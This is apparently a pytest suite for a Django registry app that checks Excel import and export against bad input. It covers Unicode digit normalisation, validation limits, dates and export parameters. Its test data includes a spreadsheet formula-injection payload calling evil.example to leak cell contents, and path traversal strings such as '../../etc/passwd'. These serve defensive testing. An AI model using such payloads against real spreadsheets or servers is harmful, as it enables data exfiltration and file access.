"""Bad input to the registries, answered with a located message: workbooks written as data
only, typed codes normalised everywhere, validation that refuses what the database would,
dates and example rows, and the parameters of the Excel views."""

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from django.core.management import call_command
from django_tenants.utils import schema_context
from python_calamine import CalamineWorkbook

from suiji_platform.organisations.models import Organisation
from suiji_platform.organisations.services import FieldError
from suiji_tenants.registries import services
from suiji_tenants.registries.codes import normalise_code
from suiji_tenants.registries.excel import write_error_report, write_template
from suiji_tenants.registries.importer import import_file
from suiji_tenants.registries.models import InspectionItem, Inspector, MarketEntity, Project
from suiji_tenants.registries.queries import registry_queryset
from suiji_tenants.registries.validation import (
    ENTITIES,
    INSPECTORS,
    MODELS_OF,
    SPECS,
    clean_record,
)

from .test_import import HEADERS, entity_values, write_xlsx

pytestmark = pytest.mark.django_db

SCHEMA = "org_533103"
USCC = "91533122GJ4XXYAJ0T"
FULL_WIDTH = "９１５３３１２２GJ4XXYAJ0T"
ARABIC_INDIC = "٩١٥٣٣١٢٢GJ4XXYAJ0T"
ZWSP = "\u200b"


def _entity(uscc: str = USCC, name: str = "德宏恒信建筑工程有限公司", **extra: Any) -> Any:
    return services.save_record("entities", {"name": name, "uscc": uscc, **extra})


def _sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        ] + [archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels")]


def _assert_data_only(data: bytes, expected: list[str]) -> None:
    """No formula, no hyperlink in the workbook, and every expected text is a string cell."""
    for xml in _sheet_xml(data):
        assert "<f>" not in xml and "<f " not in xml, xml[:300]
        assert "<hyperlink" not in xml and "relationships/hyperlink" not in xml
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    cells = [
        c
        for name in workbook.sheet_names
        for row in workbook.get_sheet_by_name(name).to_python()
        for c in row
    ]
    for text in expected:
        assert any(isinstance(c, str) and c == text for c in cells), text


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&INDIRECT("C"&ROW()),"详情")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "http://evil.example/steal",
]


# --- 1. Workbooks are written as data ---------------------------------------------------------


def test_export_writes_user_text_as_strings_never_formulas_or_links(as_user: Any) -> None:
    with schema_context(SCHEMA):
        _entity(
            name=INJECTIONS[0],
            address=INJECTIONS[1],
            legal_representative=INJECTIONS[2],
            contact_name=INJECTIONS[3],
            entity_type=INJECTIONS[4],
        )
        services.save_record(
            "inspectors",
            {
                "name": "杨洁",
                "id_number": "533103198805120024",
                "kind": "专家",
                "unit": INJECTIONS[0],
            },
        )
    client = as_user("mangshi.admin").client
    for kind in ("entities", "inspectors"):
        response = client.get(f"/o/533103/registries/export/{kind}.xlsx")
        assert response.status_code == 200
        data = b"".join(response.streaming_content)
        _assert_data_only(data, INJECTIONS if kind == "entities" else INJECTIONS[:1])


def test_template_and_error_report_are_data_only(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_template("entities", buffer)
    _assert_data_only(buffer.getvalue(), [ENTITIES.fields[0].label + "*"])
    target = tmp_path / "report.xlsx"
    errors = [
        {
            "sheet": INJECTIONS[3],
            "row": 2,
            "column": "A",
            "column_index": 0,
            "header": INJECTIONS[1],
            "reason": INJECTIONS[0],
        }
    ]
    write_error_report("entities", errors, {2: INJECTIONS}, INJECTIONS, str(target), "x")
    _assert_data_only(target.read_bytes(), INJECTIONS)


def test_an_imported_file_with_formula_text_gets_a_data_only_report(tmp_path: Path) -> None:
    rows = entity_values(3)
    rows[1][2] = INJECTIONS[0]
    path = tmp_path / "f.xlsx"
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = workbook.add_worksheet("市场主体")
    for r, row in enumerate([HEADERS, *rows]):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    workbook.close()
    with schema_context(SCHEMA):
        result = import_file("entities", path)
    assert not result.ok
    assert [(e["row"], e["column"]) for e in result.errors] == [(3, "C")]
    _assert_data_only(Path(result.report_path).read_bytes(), [INJECTIONS[0]])


# --- 4. Codes are normalised wherever they are typed ------------------------------------------


def test_normalise_code_folds_width_and_drops_zero_width_and_spaces() -> None:
    assert normalise_code(FULL_WIDTH) == USCC
    assert normalise_code(f" {ZWSP}9153 3122\u3000GJ4X\ufeffXYAJ0T\u200d ") == USCC
    assert normalise_code(None) == ""
    assert normalise_code(20150618.0) == "20150618"


@pytest.mark.parametrize(
    "typed", [FULL_WIDTH, f"{ZWSP}{USCC}", USCC.lower(), "9153 3122 GJ4X XYAJ 0T"]
)
def test_a_typed_twin_of_a_registered_uscc_is_a_duplicate(typed: str) -> None:
    with schema_context(SCHEMA):
        _entity()
        with pytest.raises(FieldError) as caught:
            _entity(typed, name="另一家公司")
        assert caught.value.code == "duplicate"
        assert MarketEntity.objects.count() == 1


def test_full_width_twin_in_an_import_is_a_duplicate_of_the_registry(tmp_path: Path) -> None:
    with schema_context(SCHEMA):
        _entity()
        rows = entity_values(2)
        rows[1][1] = FULL_WIDTH
        result = import_file("entities", write_xlsx(tmp_path / "twin.xlsx", rows))
        assert not result.ok
        assert [(e["row"], e["column"]) for e in result.errors] == [(3, "B")]
        assert "已在市场主体名录库中登记" in result.errors[0]["reason"]


def test_twins_inside_one_file_are_duplicates(tmp_path: Path) -> None:
    rows = entity_values(2)
    rows[0][1], rows[1][1] = USCC, FULL_WIDTH
    with schema_context(SCHEMA):
        result = import_file("entities", write_xlsx(tmp_path / "twins.xlsx", rows))
    assert [(e["row"], e["reason"][:8]) for e in result.errors] == [(3, "与第 2 行重复")]


def test_search_filter_and_targeted_register_find_the_normalised_code() -> None:
    from suiji_tenants.inspections.targeted import register_targeted_inspection

    with schema_context(SCHEMA):
        entity = _entity()
        services.save_record(
            "projects",
            {
                "code": "2026-533103-47-01-000123",
                "name": "安置房",
                "responsible_entity_uscc": FULL_WIDTH,
            },
        )
        assert list(registry_queryset("entities", {"search": FULL_WIDTH})) == [entity]
        assert list(registry_queryset("entities", {"search": f"{ZWSP}{USCC} "})) == [entity]
        assert registry_queryset("projects", {"responsible_entity_uscc": FULL_WIDTH}).count() == 1
        assert registry_queryset("projects", {"search": "２０２６-533103"}).count() == 1
        organisation = Organisation.objects.get(code="533103")
        targeted = register_targeted_inspection(
            uscc=FULL_WIDTH,
            reason="complaint",
            started_on=dt.date.today(),
            organisation=organisation,
            acting_user=None,
        )
        assert targeted.entity_id == entity.pk
        with pytest.raises(FieldError) as caught:
            register_targeted_inspection(
                uscc="9153\x00",
                reason="complaint",
                started_on=dt.date.today(),
                organisation=organisation,
                acting_user=None,
            )
        assert caught.value.field == "uscc"


def test_full_width_id_numbers_and_certificates_are_duplicates() -> None:
    with schema_context(SCHEMA):
        first = services.save_record(
            "inspectors",
            {
                "name": "杨洁",
                "id_number": "533103198805120024",
                "certificate_no": "53310320260001",
                "certificate_valid_until": "2028-12-31",
            },
        )
        assert first.id_number == "533103198805120024"
        with pytest.raises(Exception) as caught:
            services.save_record(
                "inspectors",
                {
                    "name": "杨洁",
                    "id_number": "５３３１０３１９８８０５１２００２４",
                    "certificate_no": "５３３１０３２０２６０００１",
                    "certificate_valid_until": "2028-12-31",
                },
            )
        assert "已" in str(caught.value) and "登记" in str(caught.value)
        found = services.find_inspector_by_id_number(f"５３３１０３１９８８０５１２００２４{ZWSP}")
        assert found == first
        assert Inspector.objects.count() == 1


def test_digits_of_other_scripts_are_a_located_error_not_a_crash(tmp_path: Path) -> None:
    with schema_context(SCHEMA):
        with pytest.raises(FieldError) as caught:
            _entity(ARABIC_INDIC)
        assert caught.value.field == "uscc" and "U+0669" in caught.value.message
        rows = entity_values(2)
        rows[0][1] = ARABIC_INDIC
        rows[1][5] = "١٣٨٨٨٨٨٥٦٧٨"  # a phone in Arabic-Indic digits
        rows[1][10] = "٣"  # a count
        result = import_file("entities", write_xlsx(tmp_path / "arabic.xlsx", rows))
        assert not result.ok
        assert {(e["row"], e["column"]) for e in result.errors} == {(2, "B"), (3, "F"), (3, "K")}


def test_a_superscript_in_an_id_number_is_normalised_and_checked() -> None:
    with schema_context(SCHEMA):
        inspector = services.save_record(
            "inspectors",
            {"name": "杨洁", "kind": "专家", "id_number": "53310319880512002⁴"},
        )
        assert inspector.id_number == "533103198805120024"
        with pytest.raises(FieldError) as caught:
            services.save_record(
                "inspectors", {"name": "李", "kind": "专家", "id_number": "٥٣٣١٠٣١٩٨٨٠٥١٢٠٠٢٤"}
            )
        assert caught.value.field == "id_number"


def test_the_cli_prints_a_located_error_for_unicode_digits(tmp_path: Path, capsys: Any) -> None:
    rows = entity_values(1)
    rows[0][1] = ARABIC_INDIC
    path = write_xlsx(tmp_path / "cli.xlsx", rows)
    with pytest.raises(SystemExit) as exited:
        call_command("import_registry", str(path), org="533103", kind="entities")
    assert exited.value.code == 1
    err = capsys.readouterr().err
    assert "第 2 行" in err and "B 列" in err and "Traceback" not in err


@pytest.mark.parametrize("name", [ZWSP * 3, f" {ZWSP}\u3000\ufeff ", "\u200c\u200d"])
def test_a_name_of_only_invisible_characters_is_refused(name: str, tmp_path: Path) -> None:
    with schema_context(SCHEMA):
        with pytest.raises(FieldError) as caught:
            _entity(name=name)
        assert caught.value.field == "name" and caught.value.code == "required"
        rows = entity_values(1)
        rows[0][0] = name
        result = import_file("entities", write_xlsx(tmp_path / "zw.xlsx", rows), dry_run=True)
        assert [(e["row"], e["column"]) for e in result.errors] == [(2, "A")]


# --- 5. Validate-only refuses what writing would refuse ---------------------------------------


@pytest.mark.parametrize(
    ("col", "value", "reason"),
    [
        (0, "恒信\x00建筑", "NUL"),
        (2, "住所\x00", "NUL"),
        (10, 99999999999, "2147483647"),
        (11, 1e20, "2147483647"),
        (10, "99999999999", "2147483647"),
        (11, 2.5, "整数"),
        (6, "类" * 65, "64"),
    ],
)
def test_validate_only_refuses_what_confirm_would(
    col: int, value: Any, reason: str, tmp_path: Path
) -> None:
    rows = entity_values(3)
    rows[1][col] = value
    path = write_xlsx(tmp_path / "db.xlsx", rows)
    with schema_context(SCHEMA):
        checked = import_file("entities", path, dry_run=True)
        assert not checked.ok
        assert [(e["sheet"], e["row"], e["column"]) for e in checked.errors] == [
            ("市场主体", 3, chr(65 + col))
        ]
        assert reason in checked.errors[0]["reason"]
        confirmed = import_file("entities", path)  # the same errors, nothing written
        assert [e["reason"] for e in confirmed.errors] == [e["reason"] for e in checked.errors]
        assert MarketEntity.objects.count() == 0


def test_every_column_limit_comes_from_the_model() -> None:
    """A value one character longer than a model column, or beyond an integer column, is
    refused by validation for every field of every registry (so a new column is covered)."""
    from django.db import connection

    for kind, spec in SPECS.items():
        model = MODELS_OF[kind]
        for f in spec.fields:
            name = "uscc" if f.name == "responsible_entity_uscc" else f.name
            mf = (MarketEntity if f.name == "responsible_entity_uscc" else model)._meta.get_field(
                name
            )
            max_length = getattr(mf, "max_length", None)
            if max_length and f.parse.__name__ in ("p_text",):
                _, errors = clean_record(spec, {f.name: "字" * (max_length + 1)})
                assert [e.field for e in errors] == [f.name], (kind, f.name)
            if "IntegerField" in mf.get_internal_type():
                high = connection.ops.integer_field_range(mf.get_internal_type())[1]
                _, errors = clean_record(spec, {f.name: str(high + 1)})
                assert [e.code for e in errors] == ["out_of_range"], (kind, f.name)


def test_services_refuse_nul_and_out_of_range_with_the_field() -> None:
    with schema_context(SCHEMA):
        with pytest.raises(FieldError) as caught:
            _entity(address="a\x00b")
        assert caught.value.field == "address" and caught.value.code == "invalid_character"
        with pytest.raises(FieldError) as caught:
            _entity(complaint_count="99999999999")
        assert caught.value.field == "complaint_count"
        with pytest.raises(FieldError) as caught:
            services.save_record(
                "items",
                {
                    "code": "ZJ-1",
                    "name": "检查",
                    "legal_basis": "依据\ud800",
                    "responsible_body": "局",
                    "content": "内容",
                    "method": "现场",
                },
            )
        assert caught.value.field == "legal_basis"
        assert InspectionItem.objects.count() == 0 and Project.objects.count() == 0


# --- 6. Accepted silently before ---------------------------------------------------------------


def test_the_templates_example_row_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_template("entities", buffer)
    path = tmp_path / "template.xlsx"
    path.write_bytes(buffer.getvalue())
    with schema_context(SCHEMA):
        result = import_file("entities", path)
        assert not result.ok and MarketEntity.objects.count() == 0
        assert [(e["row"], e["column"]) for e in result.errors] == [(2, "B")]
        assert "示例行" in result.errors[0]["reason"]


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("201561", "ambiguous_date"),
        (201561, "ambiguous_date"),
        ("9999-12-31", "date_out_of_range"),
        (dt.date(9999, 12, 31), "date_out_of_range"),
        ((dt.date.today() + dt.timedelta(days=2)).isoformat(), "date_in_future"),
        ("1800-01-01", "date_out_of_range"),
        ("20151350", "invalid_date"),
    ],
)
def test_absurd_and_ambiguous_founding_dates_are_refused(value: Any, code: str) -> None:
    with schema_context(SCHEMA):
        with pytest.raises(FieldError) as caught:
            _entity(established_on=value)
        assert (caught.value.field, caught.value.code) == ("established_on", code)


def test_unambiguous_dates_are_read() -> None:
    with schema_context(SCHEMA):
        for typed in ("20150618", "2015-6-18", "2015/06/18", "2015年6月18日", "２０１５-０６-１８"):
            MarketEntity.objects.all().delete()
            assert _entity(established_on=typed).established_on == dt.date(2015, 6, 18)
        officer = services.save_record(
            "inspectors",
            {
                "name": "王",
                "id_number": "533103198805120024",
                "certificate_no": "C1",
                "certificate_valid_until": "2030-12-31",
            },
        )
        assert officer.certificate_valid_until == dt.date(2030, 12, 31)


def test_inspector_import_reports_unicode_digits_in_the_id_column(tmp_path: Path) -> None:
    headers = [f.label + ("*" if f.required else "") for f in INSPECTORS.fields]
    path = tmp_path / "inspectors.xlsx"
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("人员")
    sheet.write_row(0, 0, headers)
    sheet.write_row(1, 0, ["专家", "杨洁", "53310319880512002\u0664"])
    workbook.close()
    with schema_context(SCHEMA):
        result = import_file("inspectors", path)
    assert [(e["row"], e["column"]) for e in result.errors] == [(2, "C")]


# --- 7. The Excel views answer every parameter --------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "search=%00",
        "search=a%00b",
        "search=" + "x" * 300,
        "region=%00",
        "credit_class=A&credit_class=%00",
        "credit_class=Z",
        "status=nope",
        "order_by=DROP",
        "descending=maybe",
        "active=%00",
        "responsible_entity_uscc=%00",
        "search=%ED%A0%80",
    ],
)
def test_export_parameters_are_checked(query: str, as_user: Any) -> None:
    client = as_user("mangshi.admin").client
    for kind in ("entities", "projects", "inspectors", "items"):
        response = client.get(f"/o/533103/registries/export/{kind}.xlsx?{query}")
        assert response.status_code in (200, 400), (kind, query, response.status_code)
        if response.status_code == 400:
            assert re.search("参数", response.content.decode())


def test_export_with_valid_filters_still_works(as_user: Any) -> None:
    with schema_context(SCHEMA):
        _entity(credit_class="A")
    client = as_user("mangshi.admin").client
    response = client.get(
        "/o/533103/registries/export/entities.xlsx?credit_class=A&credit_class=B"
        "&order_by=CODE&descending=true&status=active&search=%EF%BC%99%EF%BC%91"
    )
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[1] for r in rows[1:]] == [USCC]


@pytest.mark.parametrize(
    "name", ["x" * 300 + ".xlsx", "a%00.xlsx", "..%2F..%2Fsettings.xlsx", "0" * 32 + ".xlsx"]
)
def test_report_names_that_cannot_exist_are_404(name: str, as_user: Any) -> None:
    response = as_user("mangshi.admin").client.get(f"/o/533103/registries/import-reports/{name}")
    assert response.status_code == 404


CREATE_ENTITY = """mutation($input: MarketEntityInput!) { createMarketEntity(input: $input) {
  marketEntity { uscc } errors { field code message } } }"""
SEARCH = """query($search: String) { marketEntities(first: 5, search: $search) { totalCount } }"""


def test_graphql_inputs_and_search_are_normalised(as_user: Any) -> None:
    client = as_user("mangshi.admin")

    def create(uscc: str, name: str = "德宏恒信建筑工程有限公司") -> dict[str, Any]:
        result = client.post(CREATE_ENTITY, {"input": {"name": name, "uscc": uscc}}, org="533103")
        return result["data"]["createMarketEntity"]

    assert create(f"{ZWSP}{FULL_WIDTH} ")["marketEntity"] == {"uscc": USCC}
    assert [(e["field"], e["code"]) for e in create(USCC, "另一家")["errors"]] == [
        ("uscc", "duplicate")
    ]
    assert [(e["field"], e["code"]) for e in create(ARABIC_INDIC, "第三家")["errors"]] == [
        ("uscc", "invalid_format")
    ]
    assert [(e["field"], e["code"]) for e in create(USCC[:-1] + "1", ZWSP * 2)["errors"]][0] == (
        "name",
        "required",
    )
    found = client.post(SEARCH, {"search": FULL_WIDTH}, org="533103")
    assert found["data"]["marketEntities"]["totalCount"] == 1


def test_an_item_revision_dated_too_early_is_refused_by_validate_only(tmp_path: Path) -> None:
    from suiji_tenants.registries.validation import ITEMS

    with schema_context(SCHEMA):
        services.save_record(
            "items",
            {
                "code": "ZJ-001",
                "name": "检查",
                "legal_basis": "依据",
                "responsible_body": "局",
                "content": "内容",
                "method": "现场",
                "effective_from": "2026-01-01",
            },
        )
        path = tmp_path / "items.xlsx"
        workbook = xlsxwriter.Workbook(str(path))
        sheet = workbook.add_worksheet("事项")
        sheet.write_row(0, 0, [f.label for f in ITEMS.fields])
        sheet.write_row(
            1,
            0,
            ["ZJ-001", "检查（修订）", "依据", "局", "内容", "现场", "", "", "否", "2025-06-01"],
        )
        workbook.close()
        checked = import_file("items", path, update_existing=True, dry_run=True)
        assert [(e["row"], e["column"]) for e in checked.errors] == [(2, "J")]
        assert "晚于" in checked.errors[0]["reason"]
        assert InspectionItem.objects.get().version == 1


def test_upload_names_are_cleaned_and_odd_tokens_are_not_found(as_user: Any) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from suiji_tenants.registries.uploads import resolve_upload, store_upload

    with schema_context(SCHEMA):
        stored = store_upload(
            SimpleUploadedFile("名" * 300 + "\x01.xlsx", b"PK\x03\x04data"), user_id=1
        )
        assert len(stored["name"]) == 200 and stored["name"].endswith(".xlsx")
        assert resolve_upload(stored["token"], user_id=1)[1] == stored["name"]
        for token in ("x" * 100_000, "a\x00b" * 8, "../../etc/passwd", ""):
            with pytest.raises(FieldError) as caught:
                resolve_upload(token, user_id=1)
            assert caught.value.field == "fileToken"


def test_headers_typed_with_full_width_or_invisible_characters_are_recognised(
    tmp_path: Path,
) -> None:
    headers = [h.replace("*", "＊") for h in HEADERS]
    headers[0] = f"{ZWSP}名称 （必填）"
    headers[8] = "所属乡镇(街道)"
    with schema_context(SCHEMA):
        result = import_file(
            "entities", write_xlsx(tmp_path / "h.xlsx", entity_values(2), headers), dry_run=True
        )
    assert result.ok, result.errors
